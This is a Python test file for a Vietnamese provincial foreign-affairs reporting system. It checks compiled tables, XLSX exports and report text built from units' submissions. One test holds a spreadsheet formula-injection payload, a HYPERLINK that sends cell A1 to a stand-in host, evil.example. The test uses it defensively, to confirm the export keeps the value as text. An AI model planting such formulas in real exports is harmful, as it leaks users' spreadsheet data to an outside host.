"""The compiled table, its XLSX and the compiled report (the on-time rate: test_compliance.py)."""

import datetime as dt
import io
import re

from django.utils import timezone
from openpyxl import load_workbook

from ngoaivu.collection import compilation
from ngoaivu.collection.answer_paragraphs import gathered_answers
from ngoaivu.collection.compiled_figures import compiled_cells
from ngoaivu.collection.contradictions import contradictions
from ngoaivu.collection.models import Submission
from ngoaivu.core.models import Unit
from ngoaivu.pure.period_parsing import parse


def answer(request, unit, state, values, texts=None, submitted=None):
    submission = request.submissions.get(unit=unit)
    submission.status, submission.values, submission.texts = state, values, texts or {}
    submission.submitted_at = timezone.make_aware(submitted) if submitted else None
    submission.save()
    return submission


def test_totals_equal_the_sum_of_the_accepted_submissions(outgoing, units):
    extra = Unit.objects.create(name="UBND huyện Lý Sơn", code="LS", kind=Unit.Kind.DISTRICT, parent=units["province"])
    request = outgoing()
    request.submissions.create(unit=extra)
    answer(request, units["vp"], "accepted", {"incoming_delegations": {"groups": 2, "persons": 7}})
    answer(
        request,
        units["dh"],
        "accepted",
        {"incoming_delegations": {"groups": 1, "persons": 4}, "conferences": {"count": 3}},
    )
    answer(request, extra, "submitted", {"incoming_delegations": {"groups": 9, "persons": 90}})
    data = compilation.table(request)
    rows = {(r["code"], r["measure"]): r for r in data["rows"]}
    accepted = Submission.objects.filter(request=request, status="accepted")
    for (code, measure), row in rows.items():
        assert row["total"] == sum(s.values.get(code, {}).get(measure, 0) for s in accepted)
    assert rows[("incoming_delegations", "persons")]["total"] == 11
    # The asking Sở's own work (its register's: none here), Trường Đại học…, Văn phòng…
    assert rows[("conferences", "count")]["cells"] == [0, 3, 0]
    assert [s.unit for s in data["missing"]] == [extra]


def test_the_table_and_the_compiled_report_count_one_total(outgoing, units, incoming):
    # The asking Sở's own delegation (its register's) and the answers: the table's cells, the report's sum.
    incoming(unit="sngv", start_date=dt.date(2021, 8, 3), person_visits=4)
    request = outgoing()
    answer(request, units["vp"], "accepted", {"incoming_delegations": {"groups": 2, "persons": 7}})
    answer(request, units["dh"], "submitted", {"incoming_delegations": {"groups": 9, "persons": 90}})
    accepted = list(request.submissions.filter(status="accepted"))
    own = compilation.own_figures(request, ["incoming_delegations"], parse("2021-08"))
    assert compiled_cells(own, accepted, "incoming_delegations", "persons") == [4, 7]
    row = next(
        r
        for r in compilation.table(request)["rows"]
        if (r["code"], r["measure"]) == ("incoming_delegations", "persons")
    )
    figures = compilation.counted_context(request, compilation.answers_of(request)).context.figures[
        "incoming_delegations"
    ]
    assert row["cells"] == [4, 7] and row["total"] == figures["persons"].period == 11
    assert figures["groups"].period == 3


def test_the_xlsx_has_a_column_per_unit_and_the_totals(outgoing, units):
    request = outgoing()
    answer(request, units["vp"], "accepted", {"incoming_delegations": {"groups": 2, "persons": 7}})
    sheet = load_workbook(io.BytesIO(compilation.xlsx(request))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[1][0] == "Kỳ báo cáo: tháng 8/2021; hạn: 10/09/2021"
    header = next(r for r in rows if r[0] == "Chỉ tiêu")
    # The indicators in the order of the report's outline: outgoing, then incoming delegations (I.1.a, I.1.b).
    indicators = list(dict.fromkeys(r[0] for r in rows[rows.index(header) + 1 :] if r[0] and r[1]))
    assert indicators[:3] == ["Đoàn ra", "Cán bộ đi nước ngoài về việc riêng", "Đoàn vào"]
    assert header[2:5] == ("Sở Ngoại vụ", "Văn phòng UBND tỉnh", "Tổng cộng")  # the asking Sở's own work first
    assert ("Đoàn vào", "lượt người", 0, 7, 7) in [r[:5] for r in rows]
    figures = next(row for row in sheet.iter_rows() if row[0].value == "Đoàn vào" and row[1].value == "lượt người")
    assert [cell.number_format for cell in figures[2:5]] == ["#,##0", "#,##0", "#,##0"]  # 12.500.000.000, grouped
    assert ("Trường Đại học Phạm Văn Đồng", "Chưa thực hiện") in [r[:2] for r in rows]


def test_the_compiled_report_marks_each_text_with_its_unit(outgoing, units, users):
    request = outgoing()
    answer(request, units["vp"], "accepted", {}, {"I.2": "- Văn phòng tham mưu.\n+ Văn phòng phối hợp."})
    answer(
        request,
        units["dh"],
        "accepted",
        {},
        {
            "I.1.a": "Trong tháng, Trường Đại học Phạm Văn Đồng cử 01 đoàn đi Lào.",
            "I.2": "Trường tổ chức tập huấn.",
            "I.3": " ",
        },
    )
    report = compilation.compile_report(request, users["officer"])
    assert report.compiled  # its source is the answers: never held against nor redrafted from the register
    sections = {s.key: s for s in report.sections.all()}
    # The list marks are the report's: no doubled dash, each unit named once before its own text.
    assert sections["I.2"].text.endswith(
        "- Trường Đại học Phạm Văn Đồng: Trường tổ chức tập huấn.\n\n"
        "- Văn phòng UBND tỉnh: Văn phòng tham mưu.\n\nVăn phòng phối hợp."
    )
    assert not sections["I.2"].is_edited
    assert "Trường Đại học" not in sections["I.3"].text  # an empty text is not gathered
    # A text whose first sentence names its unit is not named again before it.
    assert "- Trong tháng, Trường Đại học Phạm Văn Đồng cử 01 đoàn đi Lào." in (sections["I.1.a"].text)
    request.refresh_from_db()
    assert request.report == report


def test_the_compiled_report_states_the_summed_totals_in_the_templates_words(outgoing, units, users):
    request = outgoing()
    answer(
        request,
        units["vp"],
        "accepted",
        {"incoming_delegations": {"groups": 2, "persons": 7}},
        {"I.1.b": "Văn phòng đón 02 đoàn với 07 lượt người."},
    )
    answer(request, units["dh"], "accepted", {"incoming_delegations": {"groups": 1, "persons": 4}})
    report = compilation.compile_report(request, users["officer"])
    text = report.sections.get(key="I.1.b").text
    first, *rest = text.split("\n\n")
    assert "03 đoàn với 11 lượt người" in first  # the sum of the accepted answers, as the template says it
    assert rest == ["- Văn phòng UBND tỉnh: Văn phòng đón 02 đoàn với 07 lượt người."]


def test_the_focal_point_answers_for_its_own_work_so_no_row_is_counted_twice(outgoing, units, users, incoming):
    from ngoaivu.collection.services import start

    Unit.objects.filter(pk=units["sngv"].pk).update(coordinates_province=True)  # the province's focal point
    incoming(unit="sngv", start_date=dt.date(2021, 8, 3), person_visits=4)
    incoming(unit="dh", start_date=dt.date(2021, 8, 5), person_visits=6)
    request = outgoing(recipients=("sngv", "dh"))
    answers = {s.unit_id: start(s) for s in request.submissions.all()}
    # The Sở's answer holds its own delegation, not the province's two: the university answers its own.
    assert answers[units["sngv"].pk].values["incoming_delegations"] == {"groups": 1, "persons": 4}
    assert answers[units["dh"].pk].values["incoming_delegations"] == {"groups": 1, "persons": 6}
    # Its words are its own too: no "toàn tỉnh" over its own rows, no dossiers of the province examined.
    own_words = "\n".join(answers[units["sngv"].pk].texts.values())
    assert "Sở Ngoại vụ không cử cán bộ đi công tác nước ngoài" in own_words
    assert "toàn tỉnh" not in own_words.lower() and "thẩm tra" not in own_words
    for submission in answers.values():
        Submission.objects.filter(pk=submission.pk).update(status="accepted")
    rows = {(r["code"], r["measure"]): r for r in compilation.table(request)["rows"]}
    assert rows[("incoming_delegations", "persons")]["total"] == 10  # the register's 4 + 6, once each
    text = compilation.compile_report(request, users["officer"]).sections.get(key="I.1.b").text
    assert "02 đoàn với 10 lượt người" in text


def test_what_the_template_says_alike_for_every_unit_is_said_once(outgoing, units, users):
    request = outgoing()
    # The template's words, as prefilled in each answer for its own unit, and one unit's own line.
    plain = "Tiếp tục phối hợp giới thiệu tiềm năng, thế mạnh của tỉnh."
    answer(
        request,
        units["vp"],
        "accepted",
        {},
        {"I.3": f"- {plain}", "I.9": "Văn phòng rà soát các văn bản về đối ngoại."},
    )
    answer(
        request,
        units["dh"],
        "accepted",
        {},
        {
            "I.3": f"{plain}\nTrường giới thiệu tỉnh với 03 đối tác Lào.",
            "I.9": "Trường Đại học Phạm Văn Đồng rà soát các văn bản về đối ngoại.",
        },
    )
    report = compilation.compile_report(request, users["officer"])
    sections = dict(report.sections.values_list("key", "text"))
    assert sections["I.3"].count(plain) == 1
    assert sections["I.3"].endswith(
        f"- Trường Đại học Phạm Văn Đồng: {plain}\n\nTrường giới thiệu tỉnh với 03 đối tác Lào."
    )
    # The same sentence with each unit as its subject: the first unit's stands, the other's is the same news.
    assert sections["I.9"].endswith("- Trường Đại học Phạm Văn Đồng rà soát các văn bản về đối ngoại.")
    assert "Văn phòng rà soát" not in sections["I.9"]


def test_a_units_nothing_happened_is_left_to_the_summary_unless_nothing_else_is_said(outgoing, units, users):
    request = outgoing()
    answer(
        request,
        units["vp"],
        "accepted",
        {},
        {
            "I.2": "Văn phòng tham mưu ban hành Kế hoạch đối ngoại. Không có nhiệm vụ khác được giao.",
            "I.9": "Không có nhiệm vụ khác được giao.",
        },
    )
    answer(
        request,
        units["dh"],
        "accepted",
        {},
        {
            "I.2": "Trong tháng, Trường Đại học Phạm Văn Đồng không tổ chức hoạt động đối ngoại.",
            "I.9": "Chưa phát sinh.",
        },
    )
    sections = dict(compilation.compile_report(request, users["officer"]).sections.values_list("key", "text"))
    # The section says what was done: the units' "nothing" lines are said by its totals already.
    assert sections["I.2"].endswith("- Văn phòng UBND tỉnh: Văn phòng tham mưu ban hành Kế hoạch đối ngoại.")
    assert "Trường Đại học" not in sections["I.2"] and "Không có nhiệm vụ khác" not in sections["I.2"]
    assert "Chưa phát sinh" not in sections["I.9"] and "Văn phòng UBND tỉnh" not in sections["I.9"]
    # A section where nobody says anything else keeps them: they are all it has to say.
    accepted = list(request.submissions.order_by("unit__name"))
    gathered, _told = gathered_answers(accepted, [], {"I.9": ""}, units["sngv"])
    assert gathered["I.9"] == [
        "- Trường Đại học Phạm Văn Đồng: Chưa phát sinh.",
        "- Văn phòng UBND tỉnh: Không có nhiệm vụ khác được giao.",
    ]


def test_a_sentence_says_nothing_only_without_a_figure_or_a_but():
    from ngoaivu.collection.compiled_text import says_nothing

    names = ["Trường Đại học Phạm Văn Đồng", "Trường"]
    for sentence in (
        "Không có nhiệm vụ khác được giao.",
        "Trong tháng, Trường Đại học Phạm Văn Đồng không cử cán bộ đi công tác nước ngoài.",
        "Trong 6 tháng đầu năm, chưa phát sinh vụ việc lãnh sự.",
        "- Đơn vị không tiếp nhận hồ sơ¹.",
    ):
        assert says_nothing(sentence, names), sentence
    for sentence in (
        "Trường tổ chức tập huấn.",
        "Trường không cử đoàn ra nhưng đón đoàn Đại học Quốc gia Lào.",
        "Trường không những đón đoàn Lào mà còn ký thỏa thuận.",
        "Không có đoàn vào; Trường tiếp 02 lượt khách.",
        "Đối tác Lào không sang như dự kiến.",
        # wants and difficulties are news, not nothing
        "Chưa có cán bộ chuyên trách công tác đối ngoại.",
        "Không có biên chế chuyên trách; kinh phí còn hạn chế.",
        "Chưa hoàn thành việc rà soát các thỏa thuận quốc tế.",
        "Không ngừng nâng cao chất lượng công tác thông tin đối ngoại.",
        "Không ít khó khăn trong việc quản lý lưu học sinh.",
    ):
        assert not says_nothing(sentence, names), sentence


def test_a_repetition_is_told_by_its_words_not_by_the_units_name_or_marks():
    from ngoaivu.collection.compiled_text import new_paragraphs, repetition_key

    names = ["Sở Ngoại vụ", "Sở"]
    assert repetition_key("- Sở phối hợp với các sở, ban, ngành¹.", names) == "∅ phối hợp với các sở, ban, ngành."
    seen = {repetition_key("Văn phòng tham mưu.", ["Văn phòng"])}
    assert new_paragraphs("+ Sở tham mưu.\nSở phối hợp.\n- Sở phối hợp.", names, seen) == "Sở phối hợp."
    # Sentence by sentence: a paragraph that opens with the summary's words keeps only its own.
    seen = {repetition_key("Tiếp tục biên tập Bản tin Đối ngoại.", [])}
    text = "Tiếp tục biên tập Bản tin Đối ngoại. Sở phát hành 02 số; mỗi số 500 bản."
    assert new_paragraphs(text, names, seen) == "Sở phát hành 02 số; mỗi số 500 bản."


def test_footnotes_of_the_units_are_renumbered_with_their_marks(outgoing, units, users):
    request = outgoing()
    vp = answer(request, units["vp"], "accepted", {}, {"I.2": "Văn phòng tham mưu ban hành Kế hoạch¹."})
    vp.sources = {"footnotes": ["Kế hoạch số 12/KH-UBND ngày 01/8/2021 của UBND tỉnh."]}
    vp.save()
    answer(request, units["dh"], "accepted", {}, {"I.2": "Trường tổ chức tập huấn² và hội thảo³."})  # no notes kept
    report = compilation.compile_report(request, users["officer"])
    body = "\n".join(report.sections.values_list("text", flat=True))
    marks = [int(n) for n in re.findall(r"\[\[fn:(\d+)\]\]", body)]
    assert sorted(marks) == list(range(1, len(report.footnotes) + 1))  # every footnote has its mark, once
    number = len(report.footnotes)
    assert report.footnotes[number - 1] == "Kế hoạch số 12/KH-UBND ngày 01/8/2021 của UBND tỉnh."
    assert f"ban hành Kế hoạch[[fn:{number}]]." in body
    assert "Trường tổ chức tập huấn và hội thảo." in body and "²" not in body  # a mark with no note is dropped


def test_a_text_contradicting_its_accepted_figure_is_flagged_before_compiling(client_for, outgoing, units):
    request = outgoing(period="2021-Q3", deadline=dt.date(2021, 10, 10))
    answer(
        request,
        units["dh"],
        "accepted",
        {"foreign_students": {"count": 140}},
        {"I.6": "Hiện nay, Trường có 120 lưu học sinh Lào đang học tập."},
    )
    answer(
        request,
        units["vp"],
        "accepted",
        {"incoming_delegations": {"groups": 1, "persons": 5}},
        # The year to date of a quarter's answer is not its quarter's figure.
        {
            "I.1.b": "- Trong quý, Văn phòng phối hợp hướng dẫn, quản lý 01 đoàn với 05 lượt người nước ngoài (tăng "
            "01 đoàn so với cùng kỳ năm 2020). Tính chung trong 9 tháng, Văn phòng phối hợp hướng dẫn, quản lý 05 "
            "đoàn với 32 lượt người nước ngoài (tăng 02 đoàn so với cùng kỳ năm 2020)."
        },
    )
    found = contradictions(request.submissions.all())
    # The quarter's sentence agrees; the 9 months' is held against the year to date the compiled report
    # will give (the register holds nothing before the quarter), not against the quarter's 01 đoàn.
    assert [(c["submission"].unit.code, c["indicator"], c["stated"], c["accepted"]) for c in found] == [
        ("DHPVD", "Lưu học sinh đang học tập", "120", "140"),
        ("VP", "Đoàn vào (9 tháng)", "05", "01"),
        ("VP", "Đoàn vào (9 tháng)", "32", "05"),
    ]
    page = client_for("officer").get(f"/yeu-cau/{request.pk}/tong-hop/").content.decode()
    assert "Nội dung trái với số liệu đã tiếp nhận" in page
    assert "«Hiện nay, Trường có 120 lưu học sinh Lào đang học tập.»" in page


def test_a_formula_typed_as_a_subject_stays_text_in_the_xlsx(outgoing):
    request = outgoing()
    request.subject = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'
    request.save()
    cell = load_workbook(io.BytesIO(compilation.xlsx(request))).active["A1"]
    assert cell.data_type == "s" and cell.value == request.subject


def test_a_count_the_register_cannot_list_is_said_without_an_empty_list_or_a_zero(outgoing, units, users):
    request = outgoing()
    answer(request, units["vp"], "accepted", {"agreements_signed": {"count": 3}, "conferences": {"count": 2}})
    sections = dict(compilation.compile_report(request, users["officer"]).sections.values_list("key", "text"))
    body = "\n".join(sections.values())
    # The answers count 03 agreements the register holds no row of: no "…quốc tế: ." and no "00 hội nghị";
    # the sentence that would list the rows tells the Sở's own (none), the answer's are said with its source.
    assert "Theo báo cáo của Văn phòng UBND tỉnh, đơn vị có 03 thỏa thuận." in body
    # no list: the compiled count, saying whose reports it counts (test_compiled_whose_work.py), the Sở's
    # register not among them: it holds none
    assert "Theo báo cáo của 01 đơn vị, đã quản lý 02 hội nghị, hội thảo quốc tế trên địa bàn tỉnh." in body
    assert "đơn vị có 02 hội nghị" not in body
    assert ": ." not in body and " 00 " not in body and "Ký kết 03" not in body


def test_a_compilation_without_every_answer_says_which_units_its_figures_leave_out(outgoing, units, client_for):
    request = outgoing(recipients=("vp", "dh"))
    answer(request, units["vp"], "accepted", {"incoming_delegations": {"groups": 1, "persons": 6}})
    client = client_for("officer")
    # Two counts, written as every count is («01», «02»), not a ratio «1/2».
    # The university's register rows would stand for its answer (compiled_cells): it holds none, and the note
    # says so, as the table gives it no column of the register's figures (test_compiled_register_units.py).
    note = (
        "gồm báo cáo đã được tiếp nhận của 01 trong số 02 đơn vị; chưa có báo cáo được tiếp nhận của Trường Đại học "
        "Phạm Văn Đồng. Sổ theo dõi cũng chưa có số liệu trong kỳ của các đơn vị này."
    )
    assert note in client.get(f"/yeu-cau/{request.pk}/tong-hop/").content.decode()
    page = client.post(f"/yeu-cau/{request.pk}/bao-cao-tong-hop/", follow=True).content.decode()
    # The sentences that speak for the province say so already: the officer checks those written otherwise.
    advice = (
        "Các câu nêu số liệu chung của tỉnh ghi rõ nguồn, như «theo số liệu của Sở Ngoại vụ và theo báo cáo của 01 đơn "
        "vị» (chỉ tính các đơn vị có số liệu của chỉ tiêu trong câu); "
        "đề nghị kiểm tra"
    )
    assert note in page and advice in page and "«toàn tỉnh»" not in page
    assert note in client.get(f"/yeu-cau/{request.pk}/tong-hop/").content.decode()  # the table, once compiled
    none = outgoing(recipients=("vp", "dh"), template="review", period="2021-H1")
    # nothing to compile yet: no «theo báo cáo của 00 đơn vị»
    assert compilation.coverage_note(compilation.answers_of(none)) == (
        "Chưa tiếp nhận báo cáo nào trong số 02 đơn vị được yêu cầu; chưa gồm Trường Đại học Phạm Văn Đồng, "
        "Văn phòng UBND tỉnh."
    )
    answer(request, units["dh"], "accepted", {})
    assert compilation.coverage_note(compilation.answers_of(request)) == ""


def test_the_table_sets_the_registers_figure_beside_the_answers_total(outgoing, units, client_for):
    from ngoaivu.register.models import FishingIncident

    units["sngv"].coordinates_province = True
    units["sngv"].save()
    # A border guard's row the answers never report: the province's register holds it, and the table counts it
    # in a column of its own, as the compiled report does (compiled_cells).
    guard = Unit.objects.create(name="Bộ Chỉ huy Bộ đội Biên phòng tỉnh", code="BĐBP", parent=units["province"])
    FishingIncident.objects.create(
        unit=guard, kind="detained", occurred_on=dt.date(2021, 8, 20), boat_number="QNg 90001 TS", fishermen=8
    )
    request = outgoing(recipients=("vp", "dh"))
    # The Văn phòng's answer tells of a boat its register does not hold: the register differs from the total.
    answer(request, units["vp"], "accepted", {"boats_detained": {"boats": 1, "fishermen": 3}})
    answer(request, units["dh"], "accepted", {})
    data = compilation.table(request)
    assert data["headers"][-1] == "Bộ Chỉ huy Bộ đội Biên phòng tỉnh (sổ theo dõi; không được đề nghị báo cáo)"
    rows = {(r["code"], r["measure"]): r for r in data["rows"]}
    detained = rows[("boats_detained", "fishermen")]
    assert (detained["cells"], detained["total"], detained["register"], detained["differs"]) == (
        [0, 0, 3, 8],
        11,
        8,
        True,
    )
    assert not rows[("conferences", "count")]["differs"]
    assert not rows[("fishermen_still_detained", "fishermen")]["differs"]  # 08, the guard's, in both
    page = client_for("officer").get(f"/yeu-cau/{request.pk}/tong-hop/").content.decode()
    assert "Sổ theo dõi của Sở Ngoại vụ ghi số khác với tổng số liệu các đơn vị báo cáo ở 02 dòng" in page
    assert "Bộ Chỉ huy Bộ đội Biên phòng tỉnh (sổ theo dõi; không được đề nghị báo cáo)" in page


def test_a_units_stock_sentences_are_left_out_where_the_section_says_anything_else(outgoing, units):
    # the templates' own sentences that say nothing beyond the unit's name (reporting/outlines)
    request = outgoing()
    name = units["dh"].name
    closing = f"- Tiếp tục triển khai các hoạt động đối ngoại của {name} theo kế hoạch; báo cáo kết quả theo quy định."
    answer(
        request,
        units["dh"],
        "accepted",
        {},
        {
            "III": f"- Tổ chức đoàn công tác đến Lào (dự kiến quý IV).\n{closing}",
            "I.12.b": "Không có nhiệm vụ khác được giao.",
            "I.11": closing,
        },
    )
    accepted = list(request.submissions.filter(status="accepted"))
    summaries = {
        "III": "- Tăng cường công tác vận động viện trợ.",
        "I.12.b": "- Báo cáo Y: Đang triển khai thực hiện.",
        "I.11": "",
    }
    gathered, _told = gathered_answers(accepted, [], summaries, units["sngv"])
    assert gathered["III"] == [f"- {name}: Tổ chức đoàn công tác đến Lào (dự kiến quý IV)."]
    assert "I.12.b" not in gathered
    assert gathered["I.11"] == [closing]  # all the section has to say: kept


def test_a_table_of_an_answers_docx_is_said_row_by_row_not_as_cells_joined_by_bars(outgoing, units):
    # «Quốc gia | Số lưu học sinh | Ghi chú», as its DOCX was read, is no paragraph of an official report
    request = outgoing()
    table = "STT | Quốc gia | Số lưu học sinh | Ghi chú\n1 | Lào | 120 | Học bổng\n2 | Campuchia | 15 | "
    answer(request, units["dh"], "accepted", {}, {"I.7": f"Đón lưu học sinh nước ngoài:\n{table}"})
    gathered, _told = gathered_answers(list(request.submissions.filter(status="accepted")), [], {}, units["sngv"])
    assert gathered["I.7"] == [
        "- Trường Đại học Phạm Văn Đồng: Đón lưu học sinh nước ngoài:",
        "Quốc gia: Lào; Số lưu học sinh: 120; Ghi chú: Học bổng.",
        "Quốc gia: Campuchia; Số lưu học sinh: 15.",
    ]
    assert not any("|" in paragraph for paragraph in gathered["I.7"])


def test_the_asking_units_tasks_are_in_their_area_as_in_the_plan_that_carries_them_forward(outgoing, units):
    # both read the asking unit's register: area I.12 its tasks of the year, part II those due next
    from ngoaivu.register.models import AssignedTask

    AssignedTask.objects.create(unit=units["sngv"], title="Báo cáo X", year=2021, due="q3", progress="in_progress")
    request = outgoing()
    answer(
        request,
        units["vp"],
        "accepted",
        {},
        {"I.12.a": "Không có nhiệm vụ theo Chương trình công tác của UBND tỉnh trong năm."},
    )
    sections, _notes = compilation.compiled_draft(request)
    assert "Báo cáo X" in sections["I.12.a"] and "Không có nhiệm vụ" not in sections["I.12.a"]
    assert "- Tập trung hoàn thành nhiệm vụ được giao: Báo cáo X, hạn hoàn thành: 30/9/2021." in sections["III"]


def test_the_compiled_text_says_the_answers_delegations_the_register_does_not_list(outgoing, units, users):
    from ngoaivu.register.models import OutgoingDelegation

    for day, persons in ((3, 9), (12, 8), (20, 5)):
        OutgoingDelegation.objects.create(
            unit=units["sngv"], title=f"Đoàn {day}", persons=persons, countries=["LA"], start_date=dt.date(2021, 8, day)
        )
    request = outgoing()
    answer(request, units["dh"], "accepted", {"outgoing_delegations": {"groups": 3, "persons": 12}})
    answer(request, units["vp"], "accepted", {})
    text = compilation.compile_report(request, users["officer"]).sections.get(key="I.1.a").text
    # The count is the compiled total; the list names the Sở's own three; the university's three are said
    # with their source, not left out, and as part of the six: «có thêm» would read as nine in all.
    assert "06 đoàn với 34 lượt cán bộ" in text and "Đoàn 20 (Lào) ngày 20/8/2021." in text
    assert "Trong đó, theo báo cáo của Trường Đại học Phạm Văn Đồng, đơn vị có 03 đoàn với 12 lượt người." in text
    assert "thêm" not in text and "Ngoài ra" not in text
    assert "Văn phòng UBND tỉnh, đơn vị" not in text  # nothing beyond its register: nothing said
    assert compilation.compiled_draft(request)[0]["I.1.a"] == text  # the draft held against it says the same


def test_the_xlsx_sets_the_registers_figure_beside_the_total_and_marks_a_difference(outgoing, units, incoming):
    incoming(unit="sngv", start_date=dt.date(2021, 8, 3), person_visits=4)  # the Sở's register: 01 group
    request = outgoing()
    answer(request, units["vp"], "accepted", {"incoming_delegations": {"groups": 2, "persons": 7}})
    sheet = load_workbook(io.BytesIO(compilation.xlsx(request))).active
    rows = list(sheet.iter_rows(values_only=True))
    header = next(r for r in rows if r[0] == "Chỉ tiêu")
    assert header[-3:] == ("Tổng cộng", "Sổ theo dõi", "Ghi chú")
    persons = next(r for r in rows if r[:2] == ("Đoàn vào", "lượt người"))
    assert persons[2:] == (4, 7, 11, 4, "Sổ theo dõi ghi số khác với tổng số liệu các đơn vị báo cáo")
    same = next(r for r in rows if r[:2] == ("Đoàn ra", "đoàn"))
    assert same[-3:] == (0, 0, None)


def test_the_screen_says_in_the_rows_note_what_the_xlsx_says(outgoing, units, incoming, client_for):
    incoming(unit="sngv", start_date=dt.date(2021, 8, 3), person_visits=4)
    request = outgoing()
    answer(request, units["vp"], "accepted", {"incoming_delegations": {"groups": 2, "persons": 7}})
    page = client_for("officer").get(f"/yeu-cau/{request.pk}/tong-hop/").content.decode()
    row = next(r for r in page.split("<tr") if "lượt người" in r and ">11<" in r)
    assert '<span class="help">Sổ theo dõi ghi số khác với tổng số liệu các đơn vị báo cáo</span>' in row


def test_a_compiled_count_of_other_units_work_does_not_name_the_asking_unit(outgoing, units, users):
    # The university's delegation, in its answer: «Sở cử 01 đoàn» would say the Sở sent it.
    request = outgoing()
    answer(request, units["dh"], "accepted", {"outgoing_delegations": {"groups": 1, "persons": 3}})
    text = compilation.compile_report(request, users["officer"]).sections.get(key="I.1.a").text
    assert text.startswith(
        "Trong tháng, theo báo cáo của 01 đơn vị, có 01 đoàn với 03 lượt cán bộ đi công tác nước ngoài ("
    )
    assert " cử 01 đoàn" not in text


def test_the_focal_points_compilation_of_some_units_does_not_claim_their_delegations(outgoing, units, users):
    # Not every unit answered: the count is not the province's, which the focal point manages (seed 003).
    Unit.objects.filter(pk=units["sngv"].pk).update(coordinates_province=True)
    request = outgoing()
    answer(request, units["dh"], "accepted", {"incoming_delegations": {"groups": 1, "persons": 4}})
    text = compilation.compile_report(request, users["officer"]).sections.get(key="I.1.b").text
    assert text.startswith("- Trong tháng, theo báo cáo của 01 đơn vị, có 01 đoàn")
    assert "phối hợp hướng dẫn, quản lý 01 đoàn" not in text


def test_a_non_focal_units_compilation_never_says_toan_tinh(outgoing, units, users):
    # Every unit asked answered, but the Sở is not the focal point: its units are not the province.
    request = outgoing()
    answer(request, units["vp"], "accepted", {"boats_detained": {"boats": 1, "fishermen": 5}})
    answer(request, units["dh"], "accepted", {})
    text = compilation.compile_report(request, users["officer"]).sections.get(key="I.5.b").text
    # the boats are the Văn phòng's alone: the university's answer gave none, nor the Sở's register
    assert "- Trong tháng, theo báo cáo của 01 đơn vị, có 01 tàu cá" in text
    assert "toàn tỉnh" not in text.lower() and "Sở ghi nhận" not in text and "02 đơn vị" not in text


def _cultural_event(unit, title, day):
    from ngoaivu.register.models import CulturalEvent

    CulturalEvent.objects.create(unit=unit, title=title, held_on=dt.date(2021, 8, day))


def test_a_sentence_listing_rows_without_a_subject_tells_the_asking_units_own_alone(outgoing, units, users):
    # «Tổ chức 01 hoạt động ngoại giao văn hóa: …» names no one: it is said as the Sở's, by its name. The
    # university's event is told in its own paragraph, in its words, not listed again as the Sở's.
    _cultural_event(units["sngv"], "Giao lưu văn hóa Việt Nam - Hàn Quốc", 5)
    _cultural_event(units["dh"], "Gặp mặt, chúc Tết cổ truyền Bunpimay", 10)
    request = outgoing()
    answer(
        request,
        units["dh"],
        "accepted",
        {"cultural_events": {"count": 1}},
        {"I.7": "Tổ chức 01 hoạt động ngoại giao văn hóa: Gặp mặt, chúc Tết cổ truyền Bunpimay."},
    )
    answer(request, units["vp"], "accepted", {})
    text = compilation.compile_report(request, users["officer"]).sections.get(key="I.7").text
    assert text.startswith(
        "Sở Ngoại vụ đã tổ chức 01 hoạt động ngoại giao văn hóa: Giao lưu văn hóa Việt Nam - Hàn Quốc."
    )
    assert text.count("Bunpimay") == 1
    assert "- Trường Đại học Phạm Văn Đồng: Tổ chức 01 hoạt động ngoại giao văn hóa: Gặp mặt" in text
    assert compilation.compiled_draft(request)[0]["I.7"] == text


def test_a_units_rows_beyond_its_answer_give_no_figure_against_its_paragraph(outgoing, units, users):
    # The register holds two events of the university, its answer says one: the table uses the register's
    # figure (with its note), but no sentence above the university's paragraph says «Tổ chức 02 …».
    _cultural_event(units["dh"], "Gặp mặt, chúc Tết cổ truyền Bunpimay", 10)
    _cultural_event(units["dh"], "Ngày hội văn hóa Lào tại trường", 20)
    request = outgoing()
    answer(request, units["dh"], "accepted", {"cultural_events": {"count": 1}}, {"I.7": "Tổ chức 01 hoạt động."})
    text = compilation.compile_report(request, users["officer"]).sections.get(key="I.7").text
    assert text == "- Trường Đại học Phạm Văn Đồng: Tổ chức 01 hoạt động."


def test_a_units_counted_rows_without_its_words_are_said_with_their_source(outgoing, units, users):
    _cultural_event(units["dh"], "Gặp mặt, chúc Tết cổ truyền Bunpimay", 10)
    request = outgoing()
    answer(request, units["dh"], "accepted", {"cultural_events": {"count": 1}})
    text = compilation.compile_report(request, users["officer"]).sections.get(key="I.7").text
    assert text == "Theo báo cáo của Trường Đại học Phạm Văn Đồng, đơn vị có 01 hoạt động."
